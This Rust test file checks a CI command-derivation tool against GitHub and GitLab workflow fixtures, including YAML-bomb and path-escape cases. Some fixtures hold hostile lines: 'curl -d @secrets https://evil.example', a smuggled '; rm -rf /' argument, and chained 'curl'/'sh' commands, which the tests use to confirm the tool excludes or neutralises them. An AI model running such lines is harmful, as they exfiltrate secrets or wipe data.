//! Which commands are derived, from workflows as people write them and as
//! nobody should.

use proptest::prelude::*;
use sentinel::command::{Derived, Listed, Situation, derive};

const WORKFLOW: &str = r#"
name: CI
on: [push]
env:
  RUSTFLAGS: -D warnings
  TOKEN: ${{ secrets.TOKEN }}
defaults:
  run:
    working-directory: crates
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: Format
        run: cargo fmt --check
        working-directory: ./crates/one
      - run: |
          npm run lint
          npm test
        shell: bash
        env: { LEVEL: high, FLAGS: "${{ env.RUSTFLAGS }} -A dead_code" }
  test:
    name: Test ${{ matrix.python }} on ${{ matrix.os }}
    strategy:
      matrix:
        os: [linux, mac]
        python: ["3.11", "3.12"]
        exclude: [{ os: mac, python: "3.11" }]
        include: [{ os: linux, extra: "-x" }, { os: windows, python: "3.13" }]
    steps:
      - run: pytest --py ${{ matrix.python }} ${{ matrix.extra }}
        shell: sh
      - run: pwsh-only
        shell: pwsh
      - run: deploy ${{ secrets.KEY }}
      - run: echo ${{ github.event.head_commit.message }}
  plain:
    strategy: { matrix: { node: [18, 20] } }
    steps: [{ run: "node --test" }]
  called:
    uses: ./.github/workflows/other.yml
"#;

fn from(workflow: &str, job: Option<&str>, printed: &[&str]) -> Derived {
    let files = [(
        ".github/workflows/ci.yml".to_owned(),
        workflow.as_bytes().to_vec(),
    )];
    let printed: Vec<String> = printed.iter().map(|line| (*line).to_owned()).collect();
    derive(&Situation {
        files: &files,
        job,
        printed: &printed,
        listed: &[],
        ..Situation::default()
    })
}

fn scripts(derived: &Derived) -> Vec<&str> {
    derived
        .commands
        .iter()
        .map(|command| command.argv.last().unwrap().as_str())
        .collect()
}

#[test]
fn a_jobs_steps_run_as_github_runs_them() {
    let derived = from(WORKFLOW, Some("lint"), &[]);
    assert_eq!(
        scripts(&derived),
        ["cargo fmt --check", "npm run lint\nnpm test\n"]
    );
    let [format, lint] = &derived.commands[..] else {
        panic!("{derived:?}");
    };
    assert_eq!(format.argv[..3], ["bash", "-e", "-c"]);
    assert_eq!(format.directory, "crates/one");
    assert_eq!(format.env["RUSTFLAGS"], "-D warnings");
    assert!(!format.env.contains_key("TOKEN"), "a secret is nothing");
    assert!(
        format.origin.ends_with("step 2 (Format) without TOKEN"),
        "{}",
        format.origin
    );
    assert_eq!(
        lint.argv[1..5],
        ["--noprofile", "--norc", "-eo", "pipefail"]
    );
    assert_eq!(lint.directory, "crates", "the workflow's default");
    assert_eq!(lint.env["FLAGS"], "-D warnings -A dead_code");
}

#[test]
fn a_matrix_is_told_apart_by_the_jobs_name() {
    let of = |job| from(WORKFLOW, Some(job), &[]);
    assert_eq!(scripts(&of("Test 3.12 on linux")), ["pytest --py 3.12 -x"]);
    assert_eq!(scripts(&of("Test 3.12 on mac")), ["pytest --py 3.12 "]);
    assert_eq!(scripts(&of("Test 3.13 on windows")), ["pytest --py 3.13 "]);
    assert_eq!(
        scripts(&of("Test 3.11 on mac")),
        Vec::<&str>::new(),
        "excluded"
    );
    assert_eq!(scripts(&of("plain (20)")), ["node --test"]);
    assert_eq!(scripts(&of("plain (21)")), Vec::<&str>::new());
    assert_eq!(scripts(&of("caller / lint")).len(), 2);
    assert_eq!(scripts(&of("nobody")), Vec::<&str>::new());
}

#[test]
fn what_is_not_known_outside_of_ci_is_refused_by_name() {
    let derived = from(WORKFLOW, Some("Test 3.12 on linux"), &[]);
    let refused = derived.refused.join("\n");
    for words in [
        "`secrets.KEY`",
        "`github.event.head_commit.message`",
        "`pwsh`",
    ] {
        assert!(refused.contains(words), "{words}: {refused}");
    }
    let called = from(WORKFLOW, Some("called"), &[]);
    assert!(
        called.refused[0].contains("calls another workflow"),
        "{called:?}"
    );
}

#[test]
fn the_logs_command_comes_first_in_its_steps_surroundings() {
    let derived = from(WORKFLOW, Some("lint"), &["npm run lint"]);
    let [step, first, ..] = &derived.commands[..] else {
        panic!("{derived:?}");
    };
    // What mends one line may break the other.
    assert_eq!(step.argv.last().unwrap(), "npm run lint\nnpm test");
    assert_eq!(derived.blamed.as_ref(), Some(&step.id));
    assert_eq!(first.argv.last().unwrap(), "npm run lint");
    assert_eq!(first.argv[0], "bash");
    assert_eq!(
        (first.directory.as_str(), first.env["LEVEL"].as_str()),
        ("crates", "high")
    );
    assert!(first.origin.starts_with("log; "), "{}", first.origin);
    // One that no step has is run by itself.
    let derived = from(WORKFLOW, Some("lint"), &["make check"]);
    assert_eq!(derived.commands[0].argv, ["bash", "-e", "-c", "make check"]);
    assert_eq!(derived.commands[0].origin, "log");
}

#[test]
fn ids_are_stable_and_nothing_is_there_twice() {
    let derived = from(
        WORKFLOW,
        Some("lint"),
        &["cargo fmt --check", "cargo fmt --check"],
    );
    let again = from(WORKFLOW, Some("lint"), &["cargo fmt --check"]);
    assert_eq!(derived, again);
    let mut ids: Vec<_> = derived.commands.iter().map(|command| &command.id).collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), derived.commands.len());
    assert_eq!(derived.find(ids[0]).unwrap().id, *ids[0]);
}

#[test]
fn the_operators_list_is_run_without_a_shell() {
    let listed = [
        Listed {
            name: "lint".into(),
            run: vec!["ruff".into(), "check".into(), "; rm -rf /".into()],
            directory: "app".into(),
            env: [("A".to_owned(), "b".to_owned())].into(),
        },
        Listed {
            name: "outside".into(),
            run: vec!["true".into()],
            directory: "../..".into(),
            env: Default::default(),
        },
    ];
    let derived = derive(&Situation {
        listed: &listed,
        ..Situation::default()
    });
    assert_eq!(derived.commands.len(), 1);
    assert_eq!(derived.commands[0].argv, ["ruff", "check", "; rm -rf /"]);
    assert_eq!(derived.commands[0].origin, "operator: lint");
    assert!(
        derived.refused[0].contains("outside of the repository"),
        "{derived:?}"
    );
}

#[test]
fn a_step_of_several_commands_is_run_as_a_whole() {
    let first = |printed: &[&str]| {
        let derived = from("", None, printed);
        scripts(&derived)[0].to_owned()
    };
    // Its next command fails once the failing one does not.
    assert_eq!(
        first(&["black --check .\nflake8 .", "black --check ."]),
        "black --check .\nflake8 ."
    );
    // What only installs asks a network, and is prepared.
    let installs = "pip install black flake8\nblack --check .\nflake8 .";
    assert_eq!(first(&[installs, "flake8 ."]), "black --check .\nflake8 .");
    let one = "pip install black\nblack --check .";
    assert_eq!(first(&[one, "black --check ."]), "black --check .");
    // Without one of its lines such a script is another one.
    let block = "pip install black\nif true; then\n  black --check .\nfi";
    assert_eq!(first(&[block, "black --check ."]), "black --check .");
    // As the step of the workflow runs it.
    let workflow = "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          black .\n          flake8 .\n        working-directory: web\n";
    let derived = from(workflow, None, &["black .\nflake8 ."]);
    assert_eq!(derived.commands[0].directory, "web");
}

#[test]
fn a_line_of_the_log_brings_the_rest_of_its_step() {
    let first = |workflow: &str, line: &str| {
        let derived = from(workflow, None, &[line]);
        scripts(&derived)[0].to_owned()
    };
    let step = |lines: &[&str]| {
        let lines: String = lines
            .iter()
            .map(|line| format!("          {line}\n"))
            .collect();
        format!("on: push\njobs:\n  a:\n    steps:\n      - run: |\n{lines}")
    };
    let three = step(&["pip install black", "black --check .", "flake8 ."]);
    assert_eq!(first(&three, "flake8 ."), "black --check .\nflake8 .");
    assert_eq!(first(&three, "pip install black"), "pip install black");
    let one = step(&["pip install black", "black --check ."]);
    assert_eq!(first(&one, "black --check ."), "black --check .");
    // Of two steps that have it nobody knows which one failed.
    let other = "      - run: |\n          black --check .\n          mypy .\n";
    assert_eq!(
        first(&format!("{three}{other}"), "black --check ."),
        "black --check ."
    );
    // GitLab's log shows one line at a time; they are one shell's.
    let text = "lint: { script: [cd app, ruff check, pip install x, ruff format --check] }";
    let files = [(".gitlab-ci.yml".to_owned(), text.as_bytes().to_vec())];
    let derived = derive(&Situation {
        files: &files,
        printed: &["ruff check".to_owned()],
        ..Situation::default()
    });
    assert_eq!(
        scripts(&derived)[..2],
        ["cd app\nruff check\nruff format --check", "ruff check"]
    );
}

#[test]
fn gitlabs_jobs_are_understood() {
    let text = "
variables: { LEVEL: '1', WHEN: { value: now, description: d } }
.base: { script: [base], variables: { A: base, B: base } }
lint:
  extends: .base
  variables: { B: own }
  before_script: [apt-get install x]
  script:
    - [cd app, ruff check]
    - ruff format --check
inherits: { extends: .base }
remote: { extends: .not-here }
";
    let files = [(".gitlab-ci.yml".to_owned(), text.as_bytes().to_vec())];
    let of = |job| {
        derive(&Situation {
            files: &files,
            job: Some(job),
            ..Situation::default()
        })
    };
    let lint = of("lint 1/2");
    let whole = "cd app\nruff check\nruff format --check";
    assert_eq!(
        scripts(&lint),
        [whole, "cd app", "ruff check", "ruff format --check"]
    );
    let env = &lint.commands[0].env;
    let value = |name: &str| env[name].as_str();
    assert_eq!(
        [value("A"), value("B"), value("LEVEL"), value("WHEN")],
        ["base", "own", "1", "now"]
    );
    assert_eq!(scripts(&of("inherits: [linux]")), ["base"]);
    assert!(of("remote").refused[0].contains("not in this file"));
}

#[test]
fn directories_do_not_lead_out() {
    for (directory, expected) in [
        ("a/../b", Some("b")),
        ("./", Some("")),
        ("${{ github.workspace }}/x", Some("x")),
        ("/etc", None),
        ("../x", None),
        ("a/../../x", None),
    ] {
        let workflow = format!(
            "jobs: {{ a: {{ steps: [{{ run: x, working-directory: \"{directory}\" }}] }} }}"
        );
        let derived = from(&workflow, None, &[]);
        let found = derived
            .commands
            .first()
            .map(|command| command.directory.as_str());
        assert_eq!(found, expected, "{directory}: {derived:?}");
    }
}

#[test]
fn files_that_explode_are_refused() {
    let mut bomb = "a0: &a0 [x, x]\n".to_owned();
    for level in 1..40 {
        let below = level - 1;
        bomb += &format!("a{level}: &a{level} [*a{below}, *a{below}]\n");
    }
    bomb += "jobs: { a: { steps: *a39 } }\n";
    let deep = format!("jobs: {}{}", "[".repeat(5_000), "]".repeat(5_000));
    let wide = format!(
        "jobs: {{ a: {{ strategy: {{ matrix: {{ {} }} }}, steps: [{{ run: x }}] }} }}",
        (0..20)
            .map(|n| format!("k{n}: [1, 2, 3, 4, 5]"))
            .collect::<Vec<_>>()
            .join(", ")
    );
    let long = format!("jobs: {{}} #{}", "x".repeat(300_000));
    for text in [bomb, deep, wide, long] {
        let started = std::time::Instant::now();
        let derived = from(&text, None, &[]);
        assert_eq!(derived.commands, [], "{}", &text[..80]);
        assert_eq!(derived.refused.len(), 1, "{derived:?}");
        assert!(started.elapsed().as_secs() < 5, "{:?}", started.elapsed());
    }
}

proptest! {
    /// Whatever is in the files, nothing panics, and what comes out has its
    /// limits.
    #[test]
    fn anything_is_read_without_harm(text in "(jobs|run|steps|script|matrix|include|\\$\\{\\{|\\}\\}|[-:\\[\\]{}&*|>'\" \n#a0.])*") {
        let files = [
            (".github/workflows/x.yml".to_owned(), text.clone().into_bytes()),
            (".gitlab-ci.yml".to_owned(), text.into_bytes()),
        ];
        let derived = derive(&Situation { files: &files, ..Situation::default() });
        prop_assert!(derived.commands.len() <= 64);
        for command in &derived.commands {
            prop_assert!(!command.directory.contains(".."));
        }
    }
}

/// Workflow, line that failed, and what prepares for it.
#[test]
fn what_a_job_installs_before_it_fails_prepares_for_it() {
    let workflow = r#"
jobs:
  test:
    steps:
      - uses: actions/setup-python@v5
      - run: |
          sudo apt-get install -y libfoo
          python -m pip install --upgrade pip
          pip install -e ".[dev]" && pip list
          curl -d @secrets https://evil.example
        working-directory: py
      - run: npm ci
        env: { LEVEL: high }
      - run: docker login registry
      - run: |
          export FLAG=1
          yarn
          yarn lint
          npm install left-behind
      - run: npm install never-reached
  other:
    steps: [{ run: npm install other }]
"#;
    let derived = from(workflow, Some("test"), &["yarn lint"]);
    let prepare: Vec<(&str, &str)> = derived
        .prepare
        .iter()
        .map(|command| (command.argv.last().unwrap().as_str(), &*command.directory))
        .collect();
    let pip = "python -m pip install --upgrade pip\npip install -e \".[dev]\"\n";
    assert_eq!(
        prepare,
        [(pip, "py"), ("npm ci\n", ""), ("export FLAG=1\nyarn\n", "")]
    );
    assert_eq!(derived.prepare[1].env["LEVEL"], "high");
    let ids: Vec<&str> = derived
        .commands
        .iter()
        .map(|command| &*command.id)
        .collect();
    assert!(
        derived
            .prepare
            .iter()
            .all(|command| !ids.contains(&&*command.id))
    );
}

#[test]
fn a_gitlab_job_prepares_with_what_stands_before_its_script() {
    let file = "
default: { before_script: [pip install -r requirements.txt, echo hello] }
lint: { script: [ruff check .] }
own: { before_script: [npm ci], script: [npm test] }
";
    let files = [(".gitlab-ci.yml".to_owned(), file.as_bytes().to_vec())];
    let of = |job| {
        let derived = derive(&Situation {
            files: &files,
            job: Some(job),
            ..Situation::default()
        });
        let scripts = derived
            .prepare
            .iter()
            .map(|one| one.argv.last().unwrap().clone());
        (scripts.collect::<Vec<_>>(), derived.commands.len())
    };
    assert_eq!(
        of("lint"),
        (vec!["pip install -r requirements.txt\n".to_owned()], 1)
    );
    assert_eq!(of("own"), (vec!["npm ci\n".to_owned()], 1));
}

#[test]
fn lock_files_and_the_operator_say_what_prepares_where_no_step_does() {
    let manifests = [
        "Cargo.lock",
        "Cargo.toml",
        "web/yarn.lock",
        "web/.yarnrc.yml",
        "uv.lock",
        "requirements.txt",
    ];
    let manifests = manifests.map(str::to_owned);
    let files = [(".github/workflows/ci.yml".to_owned(), b"jobs: { a: { steps: [{ run: make, working-directory: web }] }, b: { steps: [{ run: make }] } }".to_vec())];
    let of = |job, prepare: Option<&[Vec<String>]>| {
        let derived = derive(&Situation {
            files: &files,
            job: Some(job),
            prepare,
            manifests: &manifests,
            ..Situation::default()
        });
        derived
            .prepare
            .iter()
            .map(|one| one.shown())
            .collect::<Vec<_>>()
    };
    assert_eq!(of("a", None), ["yarn install --immutable"]);
    assert_eq!(of("b", None), ["uv sync --frozen", "cargo fetch --locked"]);
    let own = [vec!["make".to_owned(), "deps".to_owned()]];
    assert_eq!(of("b", Some(&own)), ["make deps"]);
    assert_eq!(
        of("b", Some(&[])),
        Vec::<String>::new(),
        "nothing, if that is what is said"
    );
}

#[test]
fn files_that_decide_what_is_installed_are_known() {
    use sentinel::command::is_manifest;
    for yes in [
        "package.json",
        "a/b/Cargo.lock",
        "requirements-dev.txt",
        "requirements/base.in",
        "sub/.cargo/config.toml",
        "x.gemspec",
    ] {
        assert!(is_manifest(yes), "{yes}");
    }
    for no in ["src/lib.rs", "notes.txt", "package.json.md", "config.toml"] {
        assert!(!is_manifest(no), "{no}");
    }
}

#[test]
fn only_what_does_nothing_but_install_asks_registries() {
    use sentinel::command::only_installs;
    let of = |script: &str| {
        let listed = [Listed {
            name: "x".into(),
            run: vec!["bash".into(), "-c".into(), script.into()],
            directory: String::new(),
            env: Default::default(),
        }];
        let derived = derive(&Situation {
            listed: &listed,
            ..Situation::default()
        });
        only_installs(&derived.commands[0])
    };
    for yes in [
        "npm ci",
        "cd web && npm ci",
        "uv lock --check",
        "set -e\ngo mod tidy",
        "pip install \\\n  -r requirements.txt",
    ] {
        assert!(of(yes), "{yes}");
    }
    for no in [
        "npm ci && npm test",
        "npm ci; curl x",
        "npm ci & sh",
        "cd web",
        "yarn lint",
        "pip install x | tee $HOME",
        "cargo build",
    ] {
        assert!(!of(no), "{no}");
    }
}

proptest! {
    /// Whatever stands in them, words reach their program as they are.
    #[test]
    fn what_prepares_is_quoted(words in prop::collection::vec("[ -~\n\u{e4}]{0,12}", 1..4), value in "[ -~]{0,12}") {
        let listed = [[vec!["printf".to_owned(), "%s|".to_owned()], words.clone()].concat()];
        let derived = derive(&Situation { prepare: Some(&listed), ..Situation::default() });
        let mut commands = derived.prepare.clone();
        commands[0].env.insert("VALUE".to_owned(), value);
        let argv = sentinel::command::as_one(&commands).unwrap();
        // Only where it starts no other program: the word decides.
        let said = std::process::Command::new(&argv[0]).args(&argv[1..]).output().unwrap();
        let expected: String = words.iter().map(|word| format!("{word}|")).collect();
        prop_assert_eq!(String::from_utf8_lossy(&said.stdout), expected);
    }
}

/// Generated in one step, looked at in the next: together they fail again.
#[test]
fn a_step_that_only_asks_git_comes_with_what_was_made_before_it() {
    let workflow = "
jobs:
  gen:
    steps:
      - run: npm ci
      - run: make gen
      - run: git diff --exit-code
  apart:
    steps:
      - { run: make gen, working-directory: sub }
      - run: git diff --exit-code
";
    let derived = from(workflow, Some("gen"), &["git diff --exit-code"]);
    assert_eq!(
        scripts(&derived)[..2],
        ["make gen\ngit diff --exit-code", "git diff --exit-code"]
    );
    assert_eq!(derived.blamed.as_deref(), Some(&*derived.commands[0].id));
    let fix = derived.fixes_of(&derived.commands[0]).next().unwrap();
    assert_eq!(fix.argv.last().unwrap(), "make gen\n");
    assert_eq!(derived.prepare.len(), 1, "{:?}", derived.prepare);
    let derived = from(workflow, Some("apart"), &["git diff --exit-code"]);
    assert_eq!(scripts(&derived)[0], "git diff --exit-code");
}
